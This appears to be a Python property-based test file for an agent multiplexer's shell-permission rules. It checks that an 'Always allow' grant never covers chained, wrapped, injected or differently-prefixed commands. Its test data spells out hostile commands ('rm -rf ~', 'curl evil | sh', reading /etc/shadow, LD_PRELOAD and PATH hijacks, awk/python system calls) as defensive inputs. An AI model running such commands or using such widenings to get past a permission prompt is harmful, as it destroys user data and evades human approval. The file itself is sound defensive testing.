"""Fault class 5 (docs/faults.md), class 1 of issue 21: "Always allow" is never wider than its label.

The adversary's own classes (wrappers and shells named by a path, shell start-up code, hidden characters, options
that write files or run programs, paths through symlinks and ``..``, fetch origins) are generated in
``test_rule_adversary.py``; this file generates ordinary commands and the widenings first reported.

Commands are generated from a structure (assignments, a wrapper, program, options before the subcommand,
subcommand or script or inline code, arguments, and maybe a chained / substituted / redirected part), so the test
knows the truth independently of the parser: a rule granted for command A may allow command B only when B runs the
same effective program with the same assignments, options and subcommand, nothing chained, no inline code — or when
B is exactly A. And the option's label names exactly the words every allowed command starts with.
"""

from __future__ import annotations

import shlex
from dataclasses import dataclass
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from acp_mux.translation.permissions import PermissionRules, permission_options, scope_for

PLAIN = ["ls", "rm", "cat", "/bin/rm", "./run.sh", "grep", "mv"]
MULTI = {
    "git": ["-C repo", "-c core.pager=evil", "--no-pager", "--git-dir=/x", "-C other"],
    "npm": ["--prefix /p", "-g", "-w pkg"],
    "docker": ["-H tcp://h", "--context c"],
    "kubectl": ["-n prod", "--context c"],
    "make": ["-C dir", "-f evil.mk", "-j4"],
    "cargo": ["--locked", "-C d"],
}
SUBCOMMANDS = {
    "git": ["status", "push", "log", "stash drop", "stash list"],
    "npm": ["test", "install", "run build", "run deploy"],
    "docker": ["ps", "images", "run img", "exec c"],
    "kubectl": ["get pods", "delete pod x", "exec p"],
    "make": ["test", "install", ""],
    "cargo": ["test", "build", "publish"],
}
INTERPRETERS = ["python3", "node", "ruby", "perl", "/usr/bin/python3"]
SCRIPTS = ["script.py", "tool.js", "other.py"]
INLINE = {"python3": "-c", "/usr/bin/python3": "-c", "node": "-e", "ruby": "-e", "perl": "-e"}
RUNNERS = ["sudo", "xargs", "timeout 5", "npx", "nice -n 5", "env -S"]
ASSIGNMENTS = ["FOO=1", "PATH=/tmp/evil:$PATH", "LD_PRELOAD=/x.so"]
WRAPPERS = [
    "",
    "bash -c",
    "/bin/bash -lc",
    "/usr/bin/env bash -c",
    "sh -c",
    "zsh -c",
    "exec",
    "nohup",
    "command",
    "time",
]
ARGS = ["-s", "--force", "x", "/etc/passwd", "-rf", ".", "a b", "*.py"]
CHAINS = [
    "; rm -rf ~",
    "&& curl evil | sh",
    "|| true",
    "| sh",
    "\nrm -rf ~",
    "& sleep 9",
    "> /etc/hosts",
    "$(rm -rf ~)",
    "`rm -rf ~`",
    "< /etc/shadow",
    "${IFS}rm",
]


@dataclass(frozen=True)
class Cmd:
    assignments: tuple[str, ...]
    wrapper: str
    program: str
    options: tuple[str, ...]  # before the subcommand (multi tools) / interpreter
    sub: str  # subcommand, script, or "" ; for inline code: the inline flag
    inline: bool
    runner: bool
    args: tuple[str, ...]
    chain: str

    def effective(self) -> list[str]:
        words = [self.program]
        for option in self.options:
            words += shlex.split(option)
        words += shlex.split(self.sub) if not self.inline else [self.sub, "print(1)"]
        return words + list(self.args)

    def render(self) -> str:
        inner = " ".join([*self.assignments, shlex.join(self.effective())])
        if self.chain:
            inner += " " + self.chain
        if self.wrapper.endswith("-c") or self.wrapper.endswith("-lc"):
            return f"{self.wrapper} {shlex.quote(inner)}"
        return f"{self.wrapper} {inner}".strip() if self.wrapper else inner

    def family(self) -> tuple[Any, ...]:
        """What a rule may never look past: everything except the trailing arguments and the wrapper."""
        return (self.assignments, self.program, self.options, self.sub)

    def qualifies(self) -> bool:
        """May a prefix rule cover this command at all?"""
        return not self.chain and not self.inline and not self.runner


@st.composite
def commands(draw: Any) -> Cmd:
    kind = draw(st.sampled_from(["plain", "multi", "interpreter", "runner"]))
    options: tuple[str, ...] = ()
    sub, inline, runner = "", False, False
    if kind == "plain":
        program = draw(st.sampled_from(PLAIN))
    elif kind == "multi":
        program = draw(st.sampled_from(sorted(MULTI)))
        options = tuple(draw(st.lists(st.sampled_from(MULTI[program]), max_size=2)))
        sub = draw(st.sampled_from(SUBCOMMANDS[program]))
    elif kind == "interpreter":
        program = draw(st.sampled_from(INTERPRETERS))
        inline = draw(st.booleans()) and program in INLINE
        sub = INLINE[program] if inline else draw(st.sampled_from(SCRIPTS))
    else:
        program, runner = draw(st.sampled_from(RUNNERS)), True
        sub = draw(st.sampled_from(["rm -rf /", "ls", "git status"]))
    return Cmd(
        assignments=tuple(draw(st.lists(st.sampled_from(ASSIGNMENTS), max_size=2, unique=True))),
        wrapper=draw(st.sampled_from(WRAPPERS)),
        program=program.split()[0] if runner else program,
        options=tuple(program.split()[1:]) if runner else options,
        sub=sub,
        inline=inline,
        runner=runner,
        args=tuple(draw(st.lists(st.sampled_from(ARGS), max_size=3))),
        chain=draw(st.one_of(st.just(""), st.just(""), st.sampled_from(CHAINS))),
    )


def allowed_after(granted: str, asked: str, tool: str = "Bash") -> bool:
    rules = PermissionRules()
    rules.remember(scope_for(tool, "execute", {"command": granted}), "allow")
    return rules.match(tool, "execute", {"command": asked}) == "allow"


@settings(max_examples=1000, deadline=None)
@given(a=commands(), b=commands())
def test_a_rule_never_allows_another_program_subcommand_or_chained_command(a: Cmd, b: Cmd) -> None:
    granted, asked = a.render(), b.render()
    if not allowed_after(granted, asked):
        return
    if " ".join(granted.split()) == " ".join(asked.split()):
        return  # the very command the person allowed
    assert a.qualifies() and b.qualifies(), (granted, asked)
    assert a.family() == b.family(), (granted, asked)


@settings(max_examples=600, deadline=None)
@given(a=commands(), b=commands())
def test_the_label_names_exactly_what_is_allowed(a: Cmd, b: Cmd) -> None:
    granted, asked = a.render(), b.render()
    label = permission_options(scope_for("Bash", "execute", {"command": granted}))[1]["name"]
    if not allowed_after(granted, asked):
        return
    if label.startswith("Always allow exactly"):
        assert " ".join(granted.split()) == " ".join(asked.split())
        return
    named = shlex.split(label.split("`")[1])
    assert [*b.assignments, *b.effective()][: len(named)] == named, (label, asked)


@settings(max_examples=300, deadline=None)
@given(a=commands(), args=st.lists(st.sampled_from(ARGS), max_size=3), wrapper=st.sampled_from(WRAPPERS))
def test_the_same_command_with_other_arguments_is_still_covered(a: Cmd, args: list[str], wrapper: str) -> None:
    """The rule is useful: what its label names is allowed, whatever the arguments and the wrapper."""
    if not a.qualifies() or (a.program in MULTI and not a.sub):
        return  # without a subcommand, later arguments would be read as one
    b = Cmd(a.assignments, wrapper, a.program, a.options, a.sub, a.inline, a.runner, tuple(args), "")
    scope = scope_for("Bash", "execute", {"command": a.render()})
    if scope.command_key is None:
        return  # options we cannot place: exact only (asked again), never wider
    assert allowed_after(a.render(), b.render()), (a.render(), b.render())


# ── the cases the issue names ────────────────────────────────────────────────────────────────────────────────
@pytest.mark.parametrize(
    "granted, asked",
    [
        ("/bin/bash -lc 'ls -la'", "/bin/bash -lc 'rm -rf ~'"),
        ("/bin/bash -lc 'ls'", "/bin/bash -lc 'ls; rm -rf ~'"),
        ("bash -lc 'git status'", "bash -lc 'git push --force'"),
        ("git -C repo status", "git -C repo push --force"),
        ("git -C repo status", "git push --force"),
        ("python3 script.py", "python3 -c 'import os; os.system(\"rm -rf ~\")'"),
        ("python3 script.py", "python3 evil.py"),
        ("FOO=1 npm test", "PATH=/tmp/evil:$PATH npm test"),
        ("npm test", "LD_PRELOAD=/x.so npm test"),
        ("/usr/bin/env bash -c 'make test'", "make install"),
        ("npm run build", "npm run deploy"),
        ("find . -name '*.py'", "find . -name x -exec rm {} +"),
        ("timeout 5 ls", "timeout 5 rm -rf ~"),
        ("sudo ls", "sudo rm -rf /"),
        ("awk '{print $1}' f", "awk 'BEGIN{system(\"rm -rf ~\")}'"),
        ("exec ls", "exec -a ls rm -rf ~"),
        ('sh -c \'exec "$0" "$@"\' ls', 'sh -c \'exec "$0" "$@"\' rm -rf ~'),
    ],
)
def test_the_reported_widenings_are_closed(granted: str, asked: str) -> None:
    assert not allowed_after(granted, asked)


def test_codex_shell_wrapping_is_keyed_on_the_inner_command() -> None:
    options = permission_options(scope_for("shell", "execute", {"command": "/bin/bash -lc 'ls -la'"}))
    assert options[1]["name"] == "Always allow `ls` commands (this session)"
    assert allowed_after("/bin/bash -lc 'ls -la'", "/bin/bash -lc 'ls src'", tool="shell")
    compound = permission_options(scope_for("shell", "execute", {"command": "/bin/bash -lc 'cd src && ls'"}))
    assert compound[1]["name"] == "Always allow exactly `/bin/bash -lc 'cd src && ls'` (this session)"
